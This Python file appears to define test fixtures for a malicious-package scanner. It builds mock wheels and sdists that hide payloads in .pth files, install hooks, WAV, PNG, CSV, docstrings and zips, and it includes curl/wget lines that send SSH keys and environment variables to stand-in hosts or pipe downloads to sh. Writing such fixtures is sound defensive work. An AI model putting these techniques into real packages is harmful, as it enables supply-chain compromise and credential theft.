# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Ways that real campaigns carried their code: sounds, pictures, start files, layers, lists of words, data files."""

from __future__ import annotations

import base64
import io
import wave
import zlib

from scenario_kit import Scenario, sdist, wheel
from theme_hidden import EVIL, PACKED, of
from theme_shipped import HERE, SHELL, zipped


def layered(source: bytes, depth: int) -> str:
    """Return code that decodes and runs itself, so many times."""
    for _ in range(depth):
        packed = base64.b64encode(zlib.compress(source))[::-1]
        source = b"import base64,zlib\nexec(zlib.decompress(base64.b64decode(" + repr(packed).encode() + b"[::-1])))\n"
    return source.decode()


def sound(frames: bytes) -> bytes:
    """Return a WAV file."""
    packed = io.BytesIO()
    with wave.open(packed, "wb") as writer:
        writer.setnchannels(1)
        writer.setsampwidth(2)
        writer.setframerate(8000)
        writer.writeframes(frames + b" " * (len(frames) % 2))
    return packed.getvalue()


SCENARIOS: list[Scenario] = [
    of("aiocpa-50", layered(EVIL.encode(), 20)),
    wheel(
        "litellm-pth",
        "look",
        {
            "acme/__init__.py": "",
            "acme_init.pth": f"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('{PACKED}'))\"])\n",
        },
    ),
    wheel(
        "hades-pth-bun",
        "look",
        {
            "acme/__init__.py": "",
            "acme.pth": "import os,subprocess,sys;d=os.path.join(os.path.dirname(sys.executable),'x');p=[x for x in sys.path if os.path.exists(x+'/acme/_index.js')];subprocess.Popen(['bun','run',p[0]+'/acme/_index.js'],stdout=subprocess.DEVNULL)\n",
            "acme/_index.js": "fetch('x')\n" * 3000,
        },
    ),
    wheel(
        "hades-start",
        "look",
        {
            "acme/__init__.py": "",
            "acme/boot.py": "import os,subprocess\ndef main():\n    here=os.path.dirname(__file__)\n    bun=os.path.join(here,'bun')\n    if not os.path.exists(bun):\n        import urllib.request\n        urllib.request.urlretrieve('https://github.com/oven-sh/bun/releases/download/bun-v1.1.0/bun-linux-x64.zip','/tmp/bun.zip')\n        import zipfile; zipfile.ZipFile('/tmp/bun.zip').extractall('/tmp')\n    subprocess.Popen(['/tmp/bun-linux-x64/bun','run',os.path.join(here,'_index.js')])\n",
            "acme.start": "acme.boot:main\n",
            "acme/_index.js": "fetch('x')\n" * 3000,
        },
    ),
    of(
        "telnyx-wav-shipped",
        "import wave,os,base64\nw=wave.open(os.path.join(os.path.dirname(__file__),'ring.wav'))\nexec(base64.b64decode(w.readframes(w.getnframes())))\n",
        ring__DOT__wav=sound(PACKED.encode()),
    ),
    sdist(
        "darwin-lite",
        "look",
        {
            "setup.py": "import os,subprocess,sys\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        if sys.platform=='darwin':\n            c=['ioreg','-d2','-c','IOPlatformExpertDevice']\n            r=subprocess.check_output(c).decode()\n            if 'AAAA' in r:\n                d=open('docs/_static/logo.png','rb').read()\n                open('/tmp/go-build','wb').write(d[306086:])\n                os.chmod('/tmp/go-build',0o755)\n                subprocess.Popen(['/tmp/go-build'],close_fds=True)\n        install.run(self)\nsetup(name='acme',version='1.2.0',cmdclass={'install':I})\n",
            "docs/_static/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(400),
        },
    ),
    sdist(
        "xz-style",
        "look",
        {
            "setup.py": "import subprocess\nfrom setuptools import setup\nsubprocess.run('tail -c +1025 tests/files/bad.dat | tr \"a-z\" \"n-za-m\" | xz -d | sh',shell=True)\nsetup(name='acme')\n",
            "tests/files/bad.dat": bytes(2000),
        },
    ),
    sdist(
        "xz-make",
        "look",
        {
            "setup.py": "import subprocess\nfrom setuptools import setup\nsubprocess.run(['make','-C','native'])\nsetup(name='acme')\n",
            "native/Makefile": "all:\n\tsed 's/x/y/' ../tests/bad.dat | base64 -d | sh\n",
            "tests/bad.dat": bytes(2000),
        },
    ),
    of(
        "curl-argv",
        "import subprocess\nsubprocess.run(['curl','-s','-F','f=@/root/.ssh/id_rsa','https://collect.invalid/u'])\n",
    ),
    of(
        "curl-argv-env",
        "import os,subprocess\nsubprocess.run(['curl','-s','-d',str(dict(os.environ)),'https://collect.invalid/u'])\n",
    ),
    of(
        "argv-wget-then-sh",
        "import subprocess\nsubprocess.run(['wget','-qO','/tmp/x','http://203.0.113.5/x'])\nsubprocess.run(['sh','/tmp/x'])\n",
    ),
    of(
        "execv-curl",
        "import os\nif os.fork()==0:\n    os.execvp('sh',['sh','-c','curl -s http://203.0.113.5/x | sh'])\n",
    ),
    of(
        "osa",
        "import subprocess\nsubprocess.run(['osascript','-e','do shell script \"curl -s http://203.0.113.5/x | sh\"'])\n",
    ),
    of("perl-e", "import subprocess\nsubprocess.run(['perl','-e','system(\"curl -s http://203.0.113.5/x | sh\")'])\n"),
    of(
        "node-e",
        "import subprocess\nsubprocess.run(['node','-e','require(\"child_process\").exec(\"curl -s http://203.0.113.5/x | sh\")'])\n",
    ),
    of(
        "pip-url",
        "import subprocess,sys\nsubprocess.run([sys.executable,'-m','pip','install','https://203.0.113.5/x.tar.gz'])\n",
    ),
    of(
        "pip-index",
        "import subprocess,sys\nsubprocess.check_call([sys.executable,'-m','pip','install','--index-url','https://pkgs.invalid/simple','evil'])\n",
    ),
    of(
        "git-clone-run",
        "import subprocess\nsubprocess.run(['git','clone','https://git.invalid/x','/tmp/x'])\nsubprocess.run(['python3','/tmp/x/run.py'])\n",
    ),
    of(
        "crontab-argv",
        "import subprocess\nsubprocess.run(['crontab','-'],input=b'* * * * * curl -s http://203.0.113.5/x | sh\\n')\n",
    ),
    of(
        "base64-sh-argv",
        "import subprocess\nsubprocess.run(['bash','-c','echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUveCB8IHNoCg== | base64 -d | bash'])\n",
    ),
    of(
        "import-all-plugins",
        "import os,importlib\nfor f in os.listdir(os.path.join(os.path.dirname(__file__),'x')):\n    importlib.import_module('acme.x.'+f[:-3])\n",
        **{"x/a__DOT__py": EVIL},
    ),
    of(
        "exec-listdir",
        "import os\nd=os.path.join(os.path.dirname(__file__),'x')\nfor f in os.listdir(d):\n    exec(open(os.path.join(d,f)).read())\n",
        **{"x/a__DOT__txt": EVIL},
    ),
    of(
        "exec-glob",
        "import os,glob\nfor f in glob.glob(os.path.join(os.path.dirname(__file__),'x','*.dat')):\n    exec(open(f).read())\n",
        **{"x/a__DOT__dat": EVIL},
    ),
    of(
        "exec-walk-b64",
        "import os,base64\nd=os.path.dirname(__file__)\nparts=[open(os.path.join(d,'p%d.txt'%i)).read() for i in range(2)]\nexec(base64.b64decode(''.join(parts)))\n",
        p0__DOT__txt=PACKED[:40],
        p1__DOT__txt=PACKED[40:],
    ),
    of(
        "csv-data",
        "import csv,os,base64\nr=list(csv.reader(open(os.path.join(os.path.dirname(__file__),'a.csv'))))\nexec(base64.b64decode(r[0][1]))\n",
        a__DOT__csv=f"x,{PACKED}\n",
    ),
    of("meta-desc", "import importlib.metadata as m,base64\nexec(base64.b64decode(m.metadata('acme')['Summary']))\n"),
    of("doc-exec", f"'''{PACKED}'''\nimport base64\nexec(base64.b64decode(__doc__))\n"),
    of("func-doc", f"import base64\ndef f():\n    '''{PACKED}'''\nexec(base64.b64decode(f.__doc__))\n"),
    of(
        "linecache",
        f"import linecache,base64\nexec(base64.b64decode(linecache.getline(__file__,4)[1:]))\n\n#{PACKED}\n",
    ),
    of(
        "inspect-src",
        f"import inspect,sys,base64\nexec(base64.b64decode(open(__file__).read().split('#!!')[1]))\n#!!{PACKED}\n",
    ),
    wheel(
        "pth-path-to-zip",
        "look",
        {"acme/__init__.py": "", "acme.pth": "acme/v.zip\nimport hidden\n", "acme/v.zip": zipped(hidden__DOT__py=EVIL)},
    ),
    of(
        "path-attr-dir",
        "import os\n__path__.append(os.path.join(os.path.dirname(__file__),'_x'))\nfrom acme import hidden\n",
        **{"_x/hidden__DOT__py": EVIL},
    ),
    of(
        "addsitedir",
        HERE + "import site\nsite.addsitedir(HERE + '/s')\n",
        **{"s/x__DOT__pth": "import os,requests; requests.post('https://collect.invalid/v1', json=dict(os.environ))\n"},
    ),
    of(
        "addsitedir-mod",
        HERE + "import site\nsite.addsitedir(HERE + '/s')\nimport hidden\n",
        **{"s/hidden__DOT__py": EVIL},
    ),
    of("imp-load-source", HERE + "import imp\nimp.load_source('x',HERE + '/a.txt')\n", a__DOT__txt=EVIL),
    of("execfile-py2", HERE + "execfile(HERE + '/a.txt')\n", a__DOT__txt=EVIL),
    of(
        "startfile",
        HERE + "os.startfile(HERE + '/a.bat')\n",
        a__DOT__bat="@echo off\ncurl -s http://203.0.113.5/x.exe -o %TEMP%\\x.exe\nstart /b %TEMP%\\x.exe\n",
    ),
    of("cwd-relative", HERE + "import subprocess\nsubprocess.Popen(['./run.sh'],cwd=HERE)\n", run__DOT__sh=SHELL),
    of(
        "cwd-py",
        HERE + "import subprocess\nsubprocess.Popen([sys.executable,'t.py'],cwd=HERE)\n",
        t__DOT__py="import os, requests\nif __name__=='__main__':\n    requests.post('https://collect.invalid/v1', json=dict(os.environ))\n",
    ),
    of(
        "zipimporter-exec",
        HERE
        + "import zipimport,importlib.util\ni=zipimport.zipimporter(HERE + '/v.dat')\nc=i.get_code('hidden')\nexec(c)\n",
        v__DOT__dat=zipped(hidden__DOT__py=EVIL),
    ),
    of(
        "zipimporter-source",
        HERE + "import zipimport\nexec(zipimport.zipimporter(HERE + '/v.dat').get_source('hidden'))\n",
        v__DOT__dat=zipped(hidden__DOT__py=EVIL),
    ),
    of(
        "zip-extract-run",
        HERE
        + "import zipfile,subprocess,tempfile\nd=tempfile.mkdtemp()\nzipfile.ZipFile(HERE + '/v.zip').extractall(d)\nsubprocess.Popen(['sh',os.path.join(d,'run.sh')])\n",
        v__DOT__zip=zipped(run__DOT__sh=SHELL),
    ),
    of(
        "zip-extract-py",
        HERE
        + "import zipfile,subprocess,tempfile\nd=tempfile.mkdtemp()\nwith zipfile.ZipFile(HERE + '/v.zip') as f:\n    f.extractall(d)\nsubprocess.Popen([sys.executable,os.path.join(d,'run.py')])\n",
        v__DOT__zip=zipped(run__DOT__py=EVIL),
    ),
    wheel(
        "data-scripts",
        "look",
        {"acme/__init__.py": "", "acme-1.2.0.data/scripts/acme-run": "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"},
    ),
    of(
        "pkg-resources",
        HERE + "import pkg_resources\nexec(pkg_resources.resource_string('acme','a.txt'))\n",
        a__DOT__txt=EVIL,
    ),
    of(
        "pkg-resources-file",
        HERE
        + "import pkg_resources,subprocess\nsubprocess.run(['sh',pkg_resources.resource_filename('acme','a.sh')])\n",
        a__DOT__sh=SHELL,
    ),
    of(
        "as-file",
        "import subprocess\nfrom importlib.resources import files,as_file\nwith as_file(files('acme')/'a.sh') as p:\n    subprocess.run(['sh',str(p)])\n",
        a__DOT__sh=SHELL,
    ),
    of(
        "resources-path",
        "import subprocess\nfrom importlib import resources\nwith resources.path('acme','a.sh') as p:\n    subprocess.run(['sh',p])\n",
        a__DOT__sh=SHELL,
    ),
    of(
        "spec-origin",
        "import os,subprocess\np=os.path.dirname(__spec__.origin)+'/a.sh'\nsubprocess.run(['sh',p])\n",
        a__DOT__sh=SHELL,
    ),
    of(
        "thread-run",
        HERE
        + "import threading,subprocess\nthreading.Thread(target=subprocess.call,args=(['sh',HERE + '/a.sh'],)).start()\n",
        a__DOT__sh=SHELL,
    ),
    of(
        "atexit-run",
        HERE + "import atexit,subprocess\natexit.register(subprocess.call,['sh',HERE + '/a.sh'])\n",
        a__DOT__sh=SHELL,
    ),
    of("spawnl", HERE + "os.spawnl(os.P_NOWAIT,'/bin/sh','sh',HERE + '/a.sh')\n", a__DOT__sh=SHELL),
    of(
        "asyncio",
        HERE
        + "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('sh',HERE + '/a.sh')\nasyncio.run(f())\n",
        a__DOT__sh=SHELL,
    ),
    of("f-string", HERE + "os.system(f'sh {HERE}/a.sh &')\n", a__DOT__sh=SHELL),
    of("chained-source", HERE + "os.system('. '+HERE + '/a.sh')\n", a__DOT__sh=SHELL),
]
